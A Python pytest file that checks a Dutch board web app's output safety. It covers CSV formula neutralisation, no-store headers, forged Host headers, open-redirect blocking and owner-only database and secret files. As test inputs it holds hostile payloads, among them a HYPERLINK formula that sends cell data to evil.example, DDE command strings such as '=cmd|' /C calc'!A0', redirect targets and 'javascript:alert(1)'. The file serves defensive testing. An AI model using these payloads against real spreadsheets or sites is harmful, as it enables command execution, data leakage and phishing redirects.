"""Safe output: no formula in any CSV, no-store everywhere logged in, links from PUBLIC_URL,
redirects on this site, owner-only files."""

import csv
import io
import os
import re
import stat
from types import SimpleNamespace

import pytest
import segno
from sqlalchemy import text

from app import create_app
from app.config import ConfigError, secret_key
from app.csv_output import FORMULA_STARTS
from boards import actions, catalog, displays, people
from boards.db import Database
from boards.unit_of_work import unit_of_work

from .conftest import PUBLIC_URL, login, make_app
from .factories import PASSWORD, add_indicator

PREFIXED = ["=HYPERLINK(\"http://evil.example\"&A1,\"klik\")", "+31 6 1234", "-2+3", "@SUM(1,2)"]


def csv_cells(response):
    """Every cell of a CSV download (BOM removed)."""
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = response.get_data().decode("utf-8").lstrip("\ufeff")
    return [
        cell for row in csv.reader(io.StringIO(body, newline=""), delimiter=";") for cell in row
    ]


def csv_paths(app, values):
    """Every CSV export route with its parameters filled in."""
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith(".csv"):
            yield re.sub(r"<(?:\w+:)?(\w+)>", lambda m: str(values[m.group(1)]), rule.rule)


def test_every_csv_export_neutralises_formulas(app, client, db, world):
    """Cells starting with =, +, -, @, tab or CR come out as text in every CSV export."""
    with unit_of_work(db) as s:
        for title in PREFIXED:
            actions.create_action(s, world.anna, "wonen", title=title, notes=title)
        tabbed = actions.create_action(s, world.anna, "wonen", title="tab").action
        returned = actions.create_action(s, world.anna, "wonen", title="cr").action
        catalog.create_team(s, world.admin, name="=Team som", slug="som")
        people.create_person(s, name="@Persoon", email="at@test.example", password=PASSWORD)
    with unit_of_work(db) as s:
        # The services strip leading whitespace, so a tab or CR can only be in older data.
        s.execute(text("UPDATE action SET title = :t WHERE id = :i"),
                  {"t": "\tcmd|' /C calc'!A0", "i": tabbed.id})
        s.execute(text("UPDATE action SET title = :t WHERE id = :i"),
                  {"t": "\r=1+1", "i": returned.id})
        s.commit()
    login(client, "=cmd|' /C calc'!A0", "x")  # a failed login lands in the security log
    login(client, "admin@test.example")
    indicator_id = add_indicator(db, world, name=PREFIXED[0])
    paths = list(csv_paths(app, {"slug": "wonen", "number": world.cycle,
                                 "indicator_id": indicator_id}))
    # board, cycle, cycle review, overview, activity log, security log, indicator values
    assert len(paths) == 7
    for path in paths:
        cells = csv_cells(client.get(path))
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path
    board = csv_cells(client.get("/teams/wonen/export.csv"))
    for dangerous in PREFIXED + ["\tcmd|' /C calc'!A0", "\r=1+1"]:
        assert "'" + dangerous in board
    assert "'=Team som" in csv_cells(client.get("/overview/export.csv"))
    assert "'" + PREFIXED[0] + " (dagen)" in csv_cells(
        client.get(f"/indicators/{indicator_id}/values.csv"))
    assert "'=cmd|' /C calc'!A0" in csv_cells(client.get("/admin/security/export.csv"))


def test_no_logged_in_response_without_no_store(app, client, db, world):
    """Every GET route, as a logged-in admin (bearer token for the API), says no-store."""
    with unit_of_work(db) as s:
        card = actions.create_action(s, world.anna, "wonen", title="Lezen").action
        _link, token = displays.create_display_link(s, world.admin, label="Hal", team_slug="wonen")
    login(client, "admin@test.example")
    bearer = client.post("/api/v1/tokens", json={"email": "admin@test.example",
                                                 "password": PASSWORD}).get_json()["token"]
    values = {"slug": "wonen", "action_id": card.id, "number": world.cycle, "token": token,
              "link_token": "x", "person_id": world.anna, "team_id": world.wonen_id,
              "ident": world.anna, "_rest": "Nothing", "link_id": 1, "municipality_id": 1,
              "feed_token": "x", "goal_id": world.short_goal,
              "indicator_id": add_indicator(db, world)}
    checked = 0
    for rule in app.url_map.iter_rules():
        # Static files, the service worker script and the organisation's logo and theme are
        # the same for everyone (no-cache or immutable, tests/test_wire.py and
        # tests/test_branding.py); everything else says no-store.
        if "GET" not in rule.methods or rule.endpoint in ("static", "wire_sw", "branding.logo",
                                                          "branding.theme"):
            continue
        path = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: str(values[m.group(1)]), rule.rule)
        headers = {"Authorization": f"Bearer {bearer}"} if path.startswith("/api/") else {}
        response = client.get(path, headers=headers)
        response.get_data()
        assert response.headers.get("Cache-Control") == "no-store", (path, response.headers)
        checked += 1
    assert checked > 25
    assert client.get("/no/such/page").headers["Cache-Control"] == "no-store"


def test_forged_host_changes_no_url(db_url, world):
    """Host and X-Forwarded-Host (even behind a trusted proxy) never reach a QR code or link."""
    app = make_app(db_url, TRUST_PROXY=True)
    client = app.test_client()
    forged = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
    client.post("/login", data={"email": "admin@test.example", "password": PASSWORD},
                headers=forged)  # the cookie is for the host the client thinks it talks to
    response = client.get("/teams/wonen/print", headers=forged)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    link = f"{PUBLIC_URL}/teams/wonen"
    assert link in page and "evil.example" not in page
    assert segno.make(link, error="m").svg_data_uri(scale=4, border=2) in page
    created = client.post("/admin/displays", data={"label": "Hal", "team": "wonen"},
                          headers=forged).get_data(as_text=True)
    assert f'value="{PUBLIC_URL}/display/' in created and "evil.example" not in created
    reset = client.post(f"/admin/people/{world.bert}/password-link",
                        headers=forged).get_data(as_text=True)
    assert f"{PUBLIC_URL}/password/" in reset and "evil.example" not in reset
    token = client.post("/api/v1/tokens", json={"email": "admin@test.example",
                                                "password": PASSWORD}).get_json()["token"]
    api_link = client.post(f"/api/v1/people/{world.bert}/reset-link", headers={
        **forged, "Authorization": f"Bearer {token}"}).get_json()["url"]
    assert api_link.startswith(f"{PUBLIC_URL}/password/")
    app.extensions["verbeterbord.db"].dispose()


def test_forged_host_changes_no_scim_location(db_url, world):
    """SCIM's Location header and every meta.location come from PUBLIC_URL as well."""
    app = make_app(db_url, TRUST_PROXY=True, SCIM_TOKEN="directory-secret-for-tests")
    client = app.test_client()
    headers = {"Host": "evil.example", "X-Forwarded-Host": "evil.example",
               "Authorization": "Bearer directory-secret-for-tests"}
    created = client.post("/scim/v2/Users", headers=headers, json={
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": "dirk@test.example",
        "emails": [{"value": "dirk@test.example", "primary": True}]})
    assert created.status_code == 201
    ident = created.get_json()["id"]
    assert created.headers["Location"] == f"{PUBLIC_URL}/scim/v2/Users/{ident}"
    group = client.post("/scim/v2/Groups", headers=headers, json={
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"], "displayName": "Nieuw",
        "members": [{"value": ident}]})
    assert group.headers["Location"] == f"{PUBLIC_URL}/scim/v2/Groups/{group.get_json()['id']}"
    answers = [created, group] + [client.get(f"/scim/v2{path}", headers=headers) for path in (
        "/Users", "/Groups", f"/Users/{ident}", "/Schemas", "/ResourceTypes",
        "/ServiceProviderConfig")]
    for answer in answers:
        body = answer.get_data(as_text=True)
        assert answer.status_code in (200, 201) and "evil.example" not in body
        assert f'"location": "{PUBLIC_URL}/scim/v2/' in body
    app.extensions["verbeterbord.db"].dispose()


def test_public_url_is_required_outside_demo(db_url, monkeypatch):
    """Without PUBLIC_URL the app refuses to start, unless in demo mode (then the bind address)."""
    with pytest.raises(ConfigError, match="PUBLIC_URL"):
        make_app(db_url, PUBLIC_URL=None)
    with pytest.raises(ConfigError, match="PUBLIC_URL"):
        make_app(db_url, PUBLIC_URL="javascript:alert(1)")
    monkeypatch.setenv("PORT", "8123")
    demo = make_app(db_url, PUBLIC_URL=None, DEMO=True)
    assert demo.config["PUBLIC_URL"] == "http://127.0.0.1:8123"
    demo.extensions["verbeterbord.db"].dispose()


@pytest.mark.parametrize("target", ["//evil.example/x", "/\\evil.example", "https://evil.example",
                                    "/\t/evil.example", "javascript:alert(1)"])
def test_redirects_stay_on_this_site(client, world, target):
    """`next` after login and after a language switch only goes to a local path."""
    response = client.post("/login", query_string={"next": target},
                           data={"email": "anna@test.example", "password": PASSWORD})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    switched = client.post("/language", data={"lang": "en", "next": target})
    assert switched.headers["Location"] == "/"
    local = client.post("/language", data={"lang": "nl", "next": "/teams/wonen?cycle=1"})
    assert local.headers["Location"] == "/teams/wonen?cycle=1"


def test_sqlite_files_and_demo_secret_are_owner_only(tmp_path):
    """The database file, its WAL and the demo secret are created 0600."""
    url = f"sqlite:///{tmp_path / 'board.db'}"
    database = Database(url)
    with unit_of_work(database) as s:
        s.execute(text("CREATE TABLE t (a INTEGER)"))
        s.execute(text("INSERT INTO t VALUES (1)"))
        s.commit()
    files = [tmp_path / "board.db", tmp_path / "board.db-wal"]
    assert all(stat.S_IMODE(os.stat(f).st_mode) == 0o600 for f in files)
    database.dispose()
    (tmp_path / "old.db").touch(mode=0o644)
    Database(f"sqlite:///{tmp_path / 'old.db'}").dispose()
    assert stat.S_IMODE(os.stat(tmp_path / "old.db").st_mode) == 0o600
    fake = SimpleNamespace(config={"DEMO": True}, instance_path=str(tmp_path / "instance"))
    key = secret_key(fake)
    assert len(key) == 64 and secret_key(fake) == key
    assert stat.S_IMODE(os.stat(tmp_path / "instance" / "demo_secret_key").st_mode) == 0o600


def test_create_app_without_public_url_mentions_it(db_url):
    """The refusal names the setting, so an operator knows what to set."""
    with pytest.raises(ConfigError, match="PUBLIC_URL is not set"):
        create_app({"DATABASE_URL": db_url, "SECRET_KEY": "x", "DEMO": False})
